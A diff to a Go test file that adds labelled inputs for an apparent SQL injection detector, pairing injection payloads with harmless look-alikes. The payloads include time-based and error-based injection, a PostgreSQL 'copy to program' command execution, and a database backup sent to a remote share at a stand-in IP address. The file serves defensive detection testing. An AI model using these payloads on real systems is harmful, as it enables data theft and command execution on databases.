@@ -93,6 +93,27 @@ func TestSQLiQuality(t *testing.T) {
 		// Float DoS value, not DBL_MIN as printed by every language.
 		{"body:text", "amount=2.2250738585072011e-308", true},
 		{"query:q", "const smallestNormal = 2.2250738585072014e-308 // 0x1p-1022", false},
+
+		// Round 5: a sub-select as an operand, simple CASE, numeric expressions,
+		// T-SQL DECLARE, PROCEDURE ANALYSE, COPY and BACKUP to a remote target.
+		{"query:id", "4 + some(select 1)", true},
+		{"query:id", "3=(select count(*) from orders)", true},
+		{"query:q", "zed' like (select 'a')-- ", true},
+		{"query:id", "case 3 when 4 then 1 else 0 end", true},
+		{"query:id", "~4*(3) and 2 > ~5", true},
+		{"query:q", "DECLARE @cmd", true},
+		{"query:id", "1 procedure analyse(extractvalue(1,0x3a),1)", true},
+		{"query:id", "2;copy (select '') to program 'id'", true},
+		{"query:q", "BACKUP DATABASE shop TO DISK = '\\\\198.51.100.7\\s\\shop.bak'", true},
+		{"query:id", "7 and sleep(floor(2.5))", true},
+		{"query:q", "case x when 1 then \"one\" else \"many\" end", false},
+		{"query:q", "Use SOME (subquery) or ANY (subquery) to compare against a list.", false},
+		{"query:q", "Where n = 5 the sum 1 + 2 + ... + n is 15", false},
+		{"query:q", "pattern '%son%' matches Johnson", false},
+		{"query:q", "#ifdef HAVE_USLEEP\n\tusleep(100);\n#else\n\tsleep(1);\n#endif", false},
+		{"query:q", "--TEST--\nplain\n--INPUT--\nSELECT 1\n", false},
+		{"query:q", "return f\"<Point({self.x}, {self.y})>\"", false},
+		{"query:q", "alert = self.version()\n# keep the socket open", false},
 	}
 	for _, tc := range cases {
 		r := d.Detect(context.Background(), tc.in, tc.where)
